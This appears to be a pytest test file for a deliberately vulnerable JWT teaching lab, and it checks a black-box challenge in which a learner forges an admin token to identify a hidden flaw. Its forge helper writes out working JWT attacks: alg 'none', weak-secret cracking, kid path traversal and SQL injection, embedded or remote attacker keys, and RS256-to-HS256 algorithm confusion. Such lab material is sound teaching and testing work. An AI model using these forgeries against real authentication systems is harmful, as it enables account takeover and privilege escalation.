"""The black-box challenge: one hidden flaw from a seed, named nowhere a learner can read, answered with a
forged token; the lab says right or wrong, counts the answers, and a new seed gives a new challenge.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import re
import secrets
from collections import Counter

import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.algorithms import RSAAlgorithm

import labserver
from conftest import Auth, make_client
from helpers import b64url, b64url_json, bearer, claims_of, header_of, hs256
from coursekit.labtools.attacks import (certificate_pem, recover_rsa_modulus, self_signed_certificate, serve_jwks,
                                        serve_text, wordlist, x5c_of)
from labserver.control.challenge import ATTEMPTS, FORGEABLE, draw
from labserver.control.flaws import check_flaws

ATTACKER = rsa.generate_private_key(65537, 2048)


def seed_for(flaw: str) -> str:
    """A seed that draws this flaw (found by trying: the draw is a hash)."""
    return next(seed for seed in (f"class-{i}" for i in range(10_000)) if draw(seed)[0] == flaw)


def test_many_random_seeds_draw_every_flaw_with_an_algorithm_it_can_have():
    drawn = Counter()
    for _ in range(3000):
        flaw, algorithm = draw(secrets.token_hex(8))
        assert check_flaws([flaw], algorithm) == (flaw,)
        drawn[flaw] += 1
    assert set(drawn) == set(FORGEABLE)
    assert min(drawn.values()) > 3000 / len(FORGEABLE) / 2, drawn  # none is rare


@pytest.mark.parametrize("flaw", sorted(FORGEABLE))
def test_a_challenge_lab_verifies_off_the_event_loop_whatever_its_flaw(challenge_of, flaw):
    """Only flaws that fetch, query or read keys verify in a worker thread on an ordinary lab; a challenge lab
    always does, so the time an ordinary request takes does not tell the hidden flaw."""
    assert challenge_of(seed_for(flaw)).app.state.lab.tokens.may_block
    assert not make_client().app.state.lab.tokens.may_block


def test_a_seed_always_draws_the_same_challenge_and_seeds_differ():
    assert draw("class of 2031") == draw("class of 2031")
    assert len({draw(f"seed {i}") for i in range(50)}) > 5


@pytest.fixture
def challenge_of(tmp_path):
    """An in-process challenge lab for a seed (the seed file written as labserver.start writes it)."""
    clients = []

    def make(seed: str):
        path = tmp_path / f"challenge-{len(clients)}"
        path.write_text(seed)
        client = make_client(challenge_file=str(path)).__enter__()
        clients.append(client)
        assert not path.exists()  # read, then deleted
        return client

    yield make
    for client in clients:
        client.__exit__(None, None, None)


def admin(token: str) -> dict:
    return {**claims_of(token), "roles": ["admin"]}


def forge(flaw: str, client) -> str:
    """A forged admin token proving ``flaw``: the lesson's attacks, one each."""
    token = Auth(client).token()["access_token"]
    head, payload, signature = token.split(".")
    alg = header_of(token)["alg"]
    if flaw == "no-signature":
        return f"{head}.{b64url_json(admin(token))}.{signature}"
    if flaw == "alg-none":
        return f"{b64url_json({'alg': 'none', 'typ': 'at+jwt'})}.{b64url_json(admin(token))}."
    if flaw == "weak-secret":
        word = next(w for w in wordlist() if b64url(hmac.new(w.encode(), f"{head}.{payload}".encode(),
                                                             hashlib.sha256).digest()) == signature)
        return hs256(header_of(token), admin(token), word.encode())
    if flaw == "kid-path":
        return hs256({"alg": "HS256", "typ": "at+jwt", "kid": "../" * 12 + "dev/null"}, admin(token), b"")
    if flaw == "kid-sql":
        return hs256({"alg": "HS256", "typ": "at+jwt", "kid": "x' UNION SELECT 'k' --"}, admin(token), b"k")
    headers = {"typ": "at+jwt", "kid": "mine"}
    if flaw == "jwk-header":
        headers["jwk"] = RSAAlgorithm.to_jwk(ATTACKER.public_key(), as_dict=True)
    if flaw == "x5c-header":
        headers["x5c"] = x5c_of(self_signed_certificate(ATTACKER))
    if flaw in ("jwk-header", "x5c-header"):
        return jwt.encode(admin(token), ATTACKER, algorithm=alg, headers=headers)
    if flaw == "alg-confusion":
        jwk = client.get("/.well-known/jwks.json").json()["keys"][0]
        pem = RSAAlgorithm.from_jwk(jwk).public_bytes(serialization.Encoding.PEM,
                                                      serialization.PublicFormat.SubjectPublicKeyInfo)
        return hs256({**header_of(token), "alg": "HS256"}, admin(token), pem)
    if flaw == "alg-confusion-hidden-key":
        n = recover_rsa_modulus([token, Auth(client).token("bob")["access_token"]], e=3, progress=lambda _: None)
        pem = rsa.RSAPublicNumbers(3, n).public_key().public_bytes(serialization.Encoding.PEM,
                                                                   serialization.PublicFormat.SubjectPublicKeyInfo)
        return hs256({**header_of(token), "alg": "HS256"}, admin(token), pem)
    raise AssertionError(f"needs a URL: {flaw}")


def forge_and_answer(client, flaw: str, named: str | None = None):
    if flaw in ("jku-header", "x5u-header"):
        token = Auth(client).token()["access_token"]
        jwk = {**RSAAlgorithm.to_jwk(ATTACKER.public_key(), as_dict=True), "kid": "mine"}
        server = (serve_jwks({"keys": [jwk]}) if flaw == "jku-header"
                  else serve_text(certificate_pem(self_signed_certificate(ATTACKER)), "/cert.pem"))
        with server as url:
            header = {"typ": "at+jwt", "kid": "mine", flaw[:3]: url}
            forged = jwt.encode(admin(token), ATTACKER, algorithm="RS256", headers=header)
            return client.post("/lab/challenge", json={"flaw": named or flaw, "token": forged})
    return client.post("/lab/challenge", json={"flaw": named or flaw, "token": forge(flaw, client)})


def what_the_lab_says(client) -> str:
    """What the lab's own routes tell a learner of its settings, log, counters, store and keys, as one text."""
    paths = ["/lab/settings", "/lab/audit", "/lab/stats", "/lab/flaws", "/lab/clock", "/.well-known/jwks.json",
             *(f"/lab/store/{table}" for table in ("users", "sessions", "refresh_families", "refresh_tokens"))]
    return "\n".join(client.get(path).text for path in paths)


@pytest.mark.parametrize("flaw", sorted(FORGEABLE))
def test_every_flaw_can_be_found_and_proved_and_the_answer_says_only_right(challenge_of, flaw):
    client = challenge_of(seed_for(flaw))
    header = jwt.get_unverified_header(Auth(client).token()["access_token"])
    # A token's header is the same shape whatever the flaw: its kid, too, is random text like every kid's.
    assert set(header) == {"alg", "typ", "kid"} and re.fullmatch(r"[A-Za-z0-9_-]{11}", header["kid"]), header
    assert [name for name in FORGEABLE if name in what_the_lab_says(client)] == []
    r = forge_and_answer(client, flaw)
    assert r.status_code == 200, r.text
    assert r.json() == {"correct": True, "attempts_left": ATTEMPTS - 1}
    assert client.get("/lab/challenge").json() == {"candidates": sorted(FORGEABLE),
                                                   "attempts_left": ATTEMPTS - 1, "solved": True}


def test_a_right_forgery_under_a_wrong_name_is_wrong_and_counts(challenge_of):
    client = challenge_of(seed_for("alg-none"))
    r = forge_and_answer(client, "alg-none", named="no-signature")
    assert r.json() == {"correct": False, "attempts_left": ATTEMPTS - 1}


@pytest.mark.parametrize("token", ["genuine admin", "genuine alice", "not.a.token"])
def test_the_right_name_with_a_token_that_proves_nothing_is_wrong(challenge_of, token):
    client = challenge_of(seed_for("kid-sql"))
    if token.startswith("genuine"):
        token = Auth(client).token(token.split()[1])["access_token"]
    r = client.post("/lab/challenge", json={"flaw": "kid-sql", "token": token})
    assert r.json() == {"correct": False, "attempts_left": ATTEMPTS - 1}


def test_answers_are_counted_by_the_lab_and_a_reset_gives_none_back(challenge_of):
    client = challenge_of(seed_for("weak-secret"))
    for left in range(ATTEMPTS - 1, -1, -1):
        r = client.post("/lab/challenge", json={"flaw": "alg-none", "token": "a.b.c"})
        assert r.json() == {"correct": False, "attempts_left": left}
        assert client.post("/lab/reset").status_code == 200
    r = forge_and_answer(client, "weak-secret")  # right, but too late
    assert r.status_code == 403, r.text
    assert r.json() == {"error": "forbidden",
                        "error_description": "no attempts left: this challenge is over; start a new one"}


def test_the_lab_controls_neither_show_nor_switch_the_hidden_flaw(challenge_of):
    client = challenge_of(seed_for("jwk-header"))
    hidden = {"error": "forbidden", "error_description": "this lab is a black-box challenge: its flaw is for you "
                                                         "to find (POST /lab/challenge to answer)"}
    for r in (client.get("/lab/flaws"), client.put("/lab/flaws", json=[])):
        assert (r.status_code, r.json()) == (403, hidden)
    assert client.post("/lab/reset").status_code == 200
    assert forge_and_answer(client, "jwk-header").json()["correct"] is True  # still on after the reset


@pytest.mark.parametrize("body", [{"flaw": "alg-none"}, {"flaw": 1, "token": "x"}, {"flaw": "a", "token": "x", "n": 1}])
def test_a_malformed_answer_is_a_400_and_costs_nothing(challenge_of, body):
    client = challenge_of("any")
    assert client.post("/lab/challenge", json=body).status_code == 400
    assert client.get("/lab/challenge").json()["attempts_left"] == ATTEMPTS


def test_a_lab_that_is_no_challenge_says_so():
    with make_client() as client:
        r = client.get("/lab/challenge")
        assert r.status_code == 404 and "not a challenge" in r.json()["error_description"]


def readable(lab) -> str:
    """Everything a learner can read about a running challenge lab, as one text (the API's documentation aside,
    which lists every flaw the lab has, none in particular)."""
    parts = [repr(vars(lab)), repr(lab.settings)]
    for path in ("/lab/settings", "/lab/audit", "/lab/stats", "/.well-known/jwks.json", "/lab/flaws",
                 "/.well-known/oauth-authorization-server", "/lab/store/users"):
        parts.append(lab.http.get(lab.url + path, timeout=10).text)
    parts.append(lab.log_path.read_text())
    parts += [p.name + (p.read_text(errors="replace") if p.is_file() else "") for p in lab.folder.rglob("*")]
    for name in ("cmdline", "environ"):
        with open(f"/proc/{lab.process.pid}/{name}", "rb") as file:
            parts.append(file.read().decode(errors="replace"))
    return "\n".join(parts)


@pytest.mark.parametrize("how", ["drawn by the server", "fixed by an instructor"])
def test_nothing_a_learner_can_read_names_the_hidden_flaw(how):
    seed = True if how == "drawn by the server" else "instructor's class seed"
    with labserver.start(challenge=seed, frozen_at="2030-01-01T09:00:00Z") as lab:
        alice = lab.http.post(lab.url + "/oauth/token", data={"grant_type": "password", "username": "alice",
                                                              "password": "alice-password"}).json()
        lab.http.get(lab.url + "/api/me", headers=bearer(alice["access_token"]))
        assert lab.answer_challenge("no such flaw", "a.b.c") == {"correct": False, "attempts_left": ATTEMPTS - 1}
        text = readable(lab)
        assert "instructor's class seed" not in text
        assert [flaw for flaw in FORGEABLE if flaw in text] == []
        assert "a black-box challenge: one DELIBERATELY VULNERABLE lab flaw is on, and hidden" in text
        assert lab.settings.algorithm == lab.call("GET", "/lab/settings")["algorithm"]
